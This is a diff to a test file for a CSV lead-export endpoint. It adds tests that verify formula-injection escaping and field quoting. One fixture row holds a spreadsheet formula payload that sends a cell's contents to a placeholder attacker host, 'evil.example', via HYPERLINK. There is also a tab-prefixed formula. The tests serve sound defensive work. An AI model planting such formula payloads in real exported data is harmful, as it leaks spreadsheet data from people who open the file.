@@ -20,6 +20,9 @@ describe('lead tools', () => {
       server.dataSource.query(`INSERT INTO "${table}" (${cols}) VALUES (${values.map((_, i) => `$${i + 1}`).join(',')})`, values);
     await insert('playbook_leads', '"name","email","company","createdAt"', ['Ann Old', 'old@example.com', 'Old Co', at(200)]);
     await insert('playbook_leads', '"name","email","company","createdAt"', ['Bea Three', 'three@example.com', 'Three Co', at(21)]);
+    // CSV injection: a formula after a ';' (a ';' reader splits the cell there) and after a TAB
+    // (stored around the API, which trims it).
+    await insert('playbook_leads', '"name","email","company","createdAt"', ['Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")', 'bob@example.com', '\t=1+2', at(400)]);
     await insert('contact_requests', '"name","email","company","cloudSpending","message","privacyConsent","createdAt"', [
       'Cy Week', 'week@example.com', 'Week Co', '50k-100k', 'Hello, "quoted", and\nmulti-line', true, at(7),
     ]);
@@ -62,8 +65,17 @@ describe('lead tools', () => {
     expect(text.startsWith('\uFEFF')).toBe(true);
     const rows = parse(text.slice(1)) as string[][];
     expect(rows[0]).toEqual(['Name', 'Email', 'Company', 'Date']);
-    expect(rows.slice(1).map((r) => r[0])).toEqual(['Dee Now', 'Bea Three', 'Ann Old']);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(['Dee Now', 'Bea Three', 'Ann Old', `'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")`]);
     expect(rows[1][2]).toBe(`'=HYPERLINK("x")`);
+    expect(rows[4][2]).toBe(`'\t=1+2`);
+  });
+
+  it('quotes every field, so a reader that splits cells on ; or TAB never finds a formula at a cell start', async () => {
+    const text = (await admin.get('/api/admin/playbook-leads/export.csv').buffer(true)).text.slice(1);
+    const lines = text.split('\r\n').filter(Boolean);
+    expect(lines[0]).toBe('"Name","Email","Company","Date"');
+    for (const line of lines) expect(line).toMatch(/^"[^]*"$/);
+    expect(text).toContain(`"'Bob;=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")","bob@example.com","'\t=1+2",`);
   });
 
   it('exports only the contact requests matching the search, with quoting, unicode and tool results', async () => {
